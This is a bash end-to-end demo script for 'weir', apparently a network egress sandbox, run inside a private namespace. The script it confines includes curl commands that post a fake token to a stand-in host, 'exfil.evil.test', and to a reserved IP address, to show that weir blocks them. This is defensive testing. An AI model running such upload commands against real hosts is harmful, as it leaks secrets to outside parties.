#!/bin/bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
#
# `sudo make demo`: weir allowing one connection and denying another, on two
# made-up hosts that live in a private network namespace (nothing leaves the
# machine). Exits 0 when the allowed request got through and the denied one
# was stopped before sending anything; non-zero otherwise.
#
#   sudo WEIR_BUILD=$PWD/build bash tests/e2e/demo.sh

E2E_NAME=demo
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
e2e_enter_ns "$0" "$@"
e2e_init

T=$E2E_TMP
POLICY=$REPO_ROOT/policy/demo.yaml
API_IP=192.0.2.10
EVIL_IP=203.0.113.66

if [ -t 1 ]; then
	B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' N=$'\e[0m'
else
	B='' G='' R='' N=''
fi

say() {
	printf '%s\n' "$*"
}

head2() {
	printf '\n%s== %s%s\n' "$B" "$*" "$N"
}

indent() {
	sed 's/^/    /'
}

# The command weir confines: fetch from the API, then try to send a "secret"
# to a host the policy does not name.
# shellcheck disable=SC2016 # expanded by the sh that weir starts
SCRIPT='echo "[script] curl http://api.allowed.test/v1/status"
curl -sS --max-time 5 http://api.allowed.test/v1/status
echo "[script] curl exit status: $?"
echo "[script] curl --data token=s3cr3t http://exfil.evil.test/upload"
curl -sS --max-time 5 --data token=s3cr3t http://exfil.evil.test/upload
echo "[script] curl exit status: $?"
echo "[script] curl --data token=s3cr3t http://203.0.113.66/upload   (its address, no lookup)"
curl -sS --max-time 5 --data token=s3cr3t http://203.0.113.66/upload
echo "[script] curl exit status: $?"'

setup() {
	e2e_setup_lo "$API_IP/32" "$EVIL_IP/32"
	e2e_start_sink api --http "$T/api.log" "$API_IP:80"
	e2e_start_sink exfil --http "$T/exfil.log" "$EVIL_IP:80"
	e2e_start_dns "api.allowed.test,$API_IP" "exfil.evil.test,$EVIL_IP"
	e2e_check_dns api.allowed.test "$API_IP"
	e2e_check_dns exfil.evil.test "$EVIL_IP"
}

intro() {
	head2 "weir demo"
	say "This runs in a private network namespace: nothing leaves this machine."
	say "Two local \"hosts\" are up, each an HTTP server, named by a local dnsmasq:"
	say "  api.allowed.test   $API_IP     the API our command is meant to use"
	say "  exfil.evil.test    $EVIL_IP   somewhere it should never send data"
	head2 "The policy: policy/demo.yaml"
	grep -v '^#' "$POLICY" | indent
	head2 "Running a script under weir"
	say "It fetches from the API, then tries to upload a token to exfil.evil.test, by name"
	say "and then by address:"
	say "  \$ weir run --policy policy/demo.yaml --events events.json -- sh -c '...'"
	say ""
}

# Output of the run (command and weir, in the order written) in $T/run.log.
run_demo() {
	DNS_LOG_BEFORE=$(wc -l <"$T/dnsmasq.log")
	"$WEIR" run --policy "$POLICY" --events "$T/events.json" -- sh -c "$SCRIPT" 2>&1 |
		tee "$T/run.log" | indent
	RUN_RC=${PIPESTATUS[0]}
}

show_events() {
	head2 "The audit log: events.json, one JSON object per decision"
	say "(between a run-start and a run-end record: weir, the command, the policy's sha256, ...)"
	jq -r 'select(.verdict) | [.verdict, .proto, (if .op == "dns" then "dns \(.qtype) \(.name)" else "\(.dst):\(.port)" end),
		(.domain // "-"), .rule, .comm, .pid]
		| @tsv' "$T/events.json" |
		awk -F'\t' 'BEGIN { printf "%-8s %-5s %-28s %-18s %-12s %-8s %s\n",
			"verdict", "proto", "destination", "domain", "rule", "comm", "pid" }
			{ printf "%-8s %-5s %-28s %-18s %-12s %-8s %s\n", $1, $2, $3, $4, $5, $6, $7 }' |
		indent
	say ""
	say "The allowed request to the API, in full:"
	jq -s 'map(select(.domain == "api.allowed.test" and .proto == "tcp"))[0]' "$T/events.json" |
		indent
	say "The denied one:"
	jq -s 'map(select(.verdict == "deny" and .op != "dns"))[0]' "$T/events.json" | indent
	say "The refused lookup:"
	jq -s 'map(select(.verdict == "deny" and .op == "dns"))[0]' "$T/events.json" | indent
}

# Did it behave? Every reason it did not goes into FAILS.
FAILS=()
verify() {
	[ "$RUN_RC" = 0 ] || FAILS+=("weir run exited $RUN_RC")
	grep -q '^ok$' "$T/run.log" || FAILS+=("the API's answer is missing")
	grep -q 'GET /v1/status ' "$T/api.log" || FAILS+=("the API server saw no request")
	[ ! -s "$T/exfil.log" ] || FAILS+=("exfil.evil.test received: $(head -1 "$T/exfil.log")")
	grep -q '^\[script\] curl exit status: 6$' "$T/run.log" ||
		FAILS+=("exfil.evil.test resolved (want curl's 'could not resolve', 6)")
	grep -qE "^weir: refused dns A exfil\.evil\.test \(curl pid [0-9]+\)$" "$T/run.log" ||
		FAILS+=("weir printed no refusal for exfil.evil.test")
	grep -q '^\[script\] curl exit status: 7$' "$T/run.log" ||
		FAILS+=("the upload by address did not fail with curl's 'could not connect' (7)")
	tail -n +$((DNS_LOG_BEFORE + 1)) "$T/dnsmasq.log" | grep -q 'exfil.evil.test' &&
		FAILS+=("the query for exfil.evil.test reached the upstream resolver")
	grep -qE "^weir: denied tcp $EVIL_IP:80 \(curl pid [0-9]+\)$" "$T/run.log" ||
		FAILS+=("weir printed no denial for $EVIL_IP:80")
	grep -q '^weir: summary: ' "$T/run.log" || FAILS+=("weir printed no summary")
	jq -e -s --arg ip "$API_IP" 'any(.[]; .verdict == "allow" and .dst == $ip
		and .domain == "api.allowed.test")' "$T/events.json" >/dev/null 2>&1 ||
		FAILS+=("no allow event for api.allowed.test")
	jq -e -s --arg ip "$EVIL_IP" 'any(.[]; .verdict == "deny" and .dst == $ip)' \
		"$T/events.json" >/dev/null 2>&1 || FAILS+=("no deny event for $EVIL_IP")
}

explain() {
	head2 "What happened"
	say "The API call got through: weir's resolver answered api.allowed.test (an allowed"
	say "name) and let the kernel allow the address it handed out, port 80 only."
	say "exfil.evil.test got REFUSED: the query never left the machine, so even a secret"
	say "hidden in a name goes nowhere. The upload by address failed with EPERM in the"
	say "kernel; exfil.evil.test received nothing."
}

main() {
	setup
	intro
	run_demo
	show_events
	verify
	if ((${#FAILS[@]})); then
		printf '\n%sdemo: FAILED:%s\n' "$R" "$N"
		printf '  - %s\n' "${FAILS[@]}"
		exit 1
	fi
	explain
	printf '\n%sdemo: OK%s (allowed: api.allowed.test; denied: exfil.evil.test)\n' "$G" "$N"
}

main
